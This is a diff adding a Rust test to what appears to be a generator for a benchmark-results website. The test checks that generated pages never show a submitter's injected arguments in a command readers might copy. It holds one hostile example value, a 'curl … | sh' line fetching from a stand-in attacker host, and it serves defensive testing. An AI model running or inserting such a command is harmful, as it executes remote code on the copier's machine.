@@ -69,6 +69,28 @@ fn a_submitted_journal_is_whole_true_and_only_text() {
     assert!(status == 1 && said.contains("its check value '"), "{said}");
 }
 
+/// A command of the submitter's would run as whoever copies it.
+#[test]
+fn what_a_page_offers_to_copy_runs_nothing_of_the_submitters() {
+    let place = Place::new();
+    let folder = place.root.path().join("runs");
+    std::fs::create_dir(&folder).unwrap();
+    let mut lines = recorded();
+    lines[0]["arguments"] =
+        json!(["run", "--meter", "curl -s http://e.vil/x|sh", "--program=/tmp/evil", "-c", "1,2", "index"]);
+    std::fs::write(folder.join("one.jsonl"), text(&lines)).unwrap();
+    assert_eq!(checked(&place, &text(&lines)).0, 0);
+    let (www, ..) = site(&place, &folder, "www", "");
+    for (name, bytes) in files(&www).into_iter().filter(|(name, _)| name.extension().is_some_and(|end| end == "html")) {
+        let page = testing::page::text(&String::from_utf8(bytes).unwrap());
+        assert!(!page.contains("e.vil") && !page.contains("/tmp/evil"), "{}", name.display());
+        if name.starts_with("r") {
+            assert!(page.contains("unixmark run -c 1,2 index"), "{page}");
+            assert!(page.contains("--meter and --program: what is not a name or a number"), "{page}");
+        }
+    }
+}
+
 #[test]
 fn an_anonymous_site_names_nobody() {
     let place = Place::new();
